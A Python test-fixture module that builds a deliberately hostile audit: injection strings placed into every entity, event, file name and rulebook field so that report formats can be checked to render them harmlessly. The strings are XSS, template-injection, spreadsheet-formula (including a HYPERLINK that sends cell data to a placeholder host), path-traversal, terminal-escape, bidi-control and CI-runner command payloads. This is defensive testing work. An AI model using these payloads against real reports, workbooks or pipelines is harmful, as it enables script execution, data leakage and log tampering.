"""Hostile text for every report: strings that some reader of some format takes for more than text, and an audit full of them.

`TEXTS` has one string per trick. `hostile_audit` puts each of them into every place that a stranger can write to: names of
entities, ids, keys and values of events, names of files, and what a rulebook says. A test of a format asks that each of
them comes out as harmless text, or as nothing at all.
"""

from __future__ import annotations

import json
from pathlib import Path

from ruamel.yaml import YAML

from zhiben.engine.audit import Audit, audit

AS_OF = "2024-06-30"
LONG = "长" * 40_000  # longer than a cell of a workbook, than most lines, and than half a comment on GitHub

TEXTS: dict[str, str] = {
    "a script": "<script>alert('zhiben')</script>",
    "an image that runs something": "<img src=x onerror=alert('zhiben')>",
    "the end of a script": "</script></style></title></textarea><svg onload=alert('zhiben')>",
    "an attribute that ends": "\"' onmouseover=\"alert('zhiben')\" x='",
    "a comment": "<!-- zhiben --> --!> ]]> <![CDATA[ zhiben",
    "entities of XML": "&lt;b&gt; &amp;amp; &#x202e; &zhiben;",
    "a template": "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} %(x)s {0}",
    "a command of a spreadsheet": "=cmd|' /C calc'!A0",
    "a sum": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "a full-width formula": "＝1+1",
    "a link of a spreadsheet": '=HYPERLINK("https://zhiben.invalid/?"&A1,"click")',
    "colours of a terminal": "\x1b[31mzhiben\x1b[0m\x1b]0;zhiben\x07\x9b31m",
    "cursor movements": "zhiben\rhidden\x08\x08\x08\x7f",
    "turned reading direction": "a\u202ebcd\u2066e\u2069\u200f\u061cf",
    "unseen letters": "zhi\u200bben\ufeff\u00ad\u2060",
    "line breaks": "first\nsecond\r\nthird\u2028fourth\u2029fifth\x85sixth",
    "letters XML cannot hold": "a\x01\x0b\x0c\x1fb\ufffec\uffff",
    "a tab": "a\tb",
    "rich text of a workbook": "<r><t>zhiben</t></r>",
    "escapes of a workbook": "_x0041_ _x000D_",
    "escapes of a document": "{_{ 7 * 7 }_} {_% zhiben %_} {{r 7 }} {%tr zhiben %} &#95;",
    "a link of Markdown": "[click](javascript:alert('zhiben')) ![x](https://zhiben.invalid/x.png) <https://zhiben.invalid>",
    "a table of Markdown": "a | b | c\\| d `e` **f** _g_ ~~h~~",
    "a heading and a list": "# zhiben",
    "somebody mentioned": "@zhiben #1 zhiben/zhiben#1 GH-1 https://zhiben.invalid",
    "the end of a fold": "</details></summary></table></td>",
    "a fence": "``` ~~~ ````",
    "a command of a runner": "::error file=x,line=1::zhiben%0A::warning::zhiben",
    "properties of a calendar": "zhiben\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:x;y,z\\n",
    "a path": "../../../etc/passwd",
    "a device": "C:\\CON.docx",
    "quotes and separators": "a;b,c\"d'e",
    "letters beyond the plane": "\U0001f6a7\U00020000 e\u0301\u0301\u0301\u0301",
    "a long one": LONG,
}  # fmt: skip

UNSEEN = "\x00\x01\x08\x0b\x0c\x1b\x1f\x7f\x85\x9b\u00ad\u061c\u200b\u200f\u202e\u2028\u2029\u2060\u2066\u2069\ufeff"
"""Characters of the strings above that no report shows as they are, line breaks of its own aside."""


def hostile_audit(folder: Path, texts: dict[str, str] | None = None) -> Audit:
    """An audit in which every place is hostile: duties met, late, breached, pending and unknown, and rejected rows.

    Args:
        folder: where rulebook, entities and log are written; they stay there.
        texts: some of `TEXTS`; default all of them.
    """
    chosen = TEXTS if texts is None else texts
    return audit(
        hostile_log(folder, chosen), hostile_rulebook(folder, chosen), entities=hostile_entities(folder, chosen), as_of=AS_OF
    )  # fmt: skip


def hostile_rulebook(folder: Path, texts: dict[str, str]) -> Path:
    """A rulebook that says hostile things wherever its language lets it: one rule for each text, and one for hazards."""
    book = folder / "book"
    (book / "tasks").mkdir(parents=True)
    said = {str(i): text for i, text in enumerate(_printable(texts))}
    every = "\n".join(said.values())
    _write(book / "rulebook.yaml", {
        "rulebook": "hostile",
        "version": "<b>1</b>",
        "title": {"zh": every, "en": every},
        "source": {"document": every},
        "timezone": "Asia/Shanghai",
        "in_force": {"from": "2024-01-01", "through": "2024-12-31"},
        "parameters": {"limit": {"default": "15 days", "origin": "choice", "reason": every, "source": every}},
        "clauses": [{"id": f"c{i}", "title": {"zh": text, "en": text}, "force": "duty"} for i, text in said.items()],
    })  # fmt: skip
    _write(book / "vocabulary.yaml", {
        "entities": {"company": {"label": {"zh": every, "en": every}, "fields": {"number": {"type": "number"}, "size": {"type": "number"}}}},
        "events": {
            "found": {"fields": {"hazard": {"type": "text"}, "due": {"type": "date"}}},
            "closed": {"fields": {"hazard": {"type": "text"}}},
            "check": {"fields": {"kind": {
                "type": "category",
                "label": {"zh": every, "en": every},
                "values": {f"k{i}": {"zh": f"{text}{i}", "en": f"{text}{i}"} for i, text in said.items()},
            }}},
        },
    })  # fmt: skip
    hazards = {
        "id": "hazards", "title": {"zh": every, "en": every}, "severity": "critical", "bearer": "company",
        "clause": [f"c{i}" for i in said],
        "duty": {"for_each": {"event": "found"}, "event": "closed", "same": ["hazard"], "at_least": 1, "within": {"field": "due"}},
        "otherwise": {"event": "check", "at_least": 1, "within": "$limit"},
    }  # fmt: skip
    doubtful = {
        "id": "doubtful", "severity": "low", "bearer": "company", "applies": {"size": {"gte": 10}},
        "duty": {"event": "check", "at_least": 1, "every": "year"},
    }  # fmt: skip
    checks = [
        {
            "id": f"check-{i}", "title": {"zh": text, "en": text}, "clause": f"c{i}", "severity": "high", "bearer": "company",
            "applies": {"number": int(i)}, "duty": {"event": "check", "where": {"kind": f"k{i}"}, "at_least": 1, "every": "half-year"},
        }
        for i, text in said.items()
    ]  # fmt: skip
    _write(book / "tasks" / "rules.yaml", [hazards, doubtful, *checks])
    return book


def hostile_entities(folder: Path, texts: dict[str, str]) -> Path:
    """One company per text, called so; nobody's size is known."""
    rows: list[dict[str, object]] = [
        {"id": text, "kind": "company", "valid_from": "2024-01-01", "number": number}
        for number, text in enumerate(texts.values())
    ]
    return _lines(folder / "entities.jsonl", rows)


def hostile_log(folder: Path, texts: dict[str, str]) -> Path:
    """Hazards with hostile numbers, some closed in time, some late, some still open; and rows that are refused."""
    rows: list[dict[str, object]] = []
    for number, text in enumerate(texts.values()):
        found = {"id": f"{text} found", "source": text, "type": "found", "subject": text, "hazard": text}
        for ordinal, due in enumerate(("2024-03-01", "2024-07-31", None)):
            rows.append(
                {**found, "id": f"{text} {ordinal}", "time": "2024-02-01", "hazard": f"{text}{ordinal}", "due": due}
            )
        if number % 3:
            closed = {"id": f"{text} closed", "source": text, "type": "closed", "subject": text, "hazard": f"{text}0"}
            rows.append({**closed, "time": "2024-02-20" if number % 3 == 1 else "2024-03-20"})
        rows.append({**found, "id": f"{text} bad", "time": text})
        rows.append({**found, "id": f"{text} strange", "time": "2024-02-01", "type": text})
        rows.append({"id": f"{text} wrong", "type": "check", "subject": text, "time": "2024-02-01", "kind": text})
    return _lines(folder / "log <b>=1+1.jsonl", rows)


def _printable(texts: dict[str, str]) -> list[str]:
    """What a YAML file can say: it is refused with characters that cannot be printed."""
    return ["".join(c if c == "\n" or c.isprintable() else " " for c in text)[:400].strip() for text in texts.values()]


def _lines(file: Path, rows: list[dict[str, object]]) -> Path:
    """JSON lines in ASCII, so that no reader of files is asked what a lone control character means."""
    file.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="ascii")
    return file


def _write(file: Path, content: object) -> None:
    yaml = YAML()
    yaml.width = 1_000_000
    with file.open("w", encoding="utf-8") as stream:
        yaml.dump(content, stream)
